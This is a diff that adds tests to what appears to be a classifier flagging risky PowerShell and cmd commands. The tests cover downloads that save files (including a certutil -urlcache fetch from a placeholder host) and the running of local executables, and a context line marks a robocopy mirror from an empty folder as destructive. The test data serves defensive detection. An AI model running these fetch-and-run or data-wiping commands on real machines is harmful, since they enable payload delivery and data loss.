@@ -203,3 +203,30 @@ describe("what cmdlets and programs are given", () => {
 		["cmd", "robocopy C:\\empty D:\\data /mir", "destructive_data"],
 	] as const)("%s: %s", (tool, command, category) => expect(said(tool, command)).toBe(category));
 });
+
+describe("files that are fetched and run", () => {
+	const said = (tool: "powershell" | "cmd", command: string, attribute: string) =>
+		classify({ tool, args: { command } })
+			.facts.filter(({ kind }) => kind === "command")
+			.flatMap(({ has }) => has[attribute] ?? []);
+
+	it.each([
+		["powershell", "iwr https://a.example/x -OutFile got.ps1", ["got.ps1"]],
+		["powershell", "iwr https://a.example/x", []],
+		["cmd", "curl -o got.exe https://a.example/x", ["got.exe"]],
+		["cmd", "certutil -urlcache -f https://a.example/x got.exe", ["got.exe"]],
+		["cmd", "certutil -hashfile kept.exe SHA256", []],
+	] as const)("%s: %s saves %j", (tool, command, saved) => {
+		expect(said(tool, command, "saves")).toEqual(saved);
+	});
+
+	it.each([
+		["powershell", ".\\setup.ps1 -All", ["file"]],
+		["powershell", "C:\\Windows\\System32\\ipconfig.exe", []],
+		["powershell", "Get-ChildItem .\\src", []],
+		["cmd", "C:\\Users\\jo\\got.exe /s", ["file"]],
+		["cmd", "%SystemRoot%\\System32\\where.exe node", []],
+	] as const)("%s: %s runs %j", (tool, command, origins) => {
+		expect(said(tool, command, "runs")).toEqual(origins);
+	});
+});
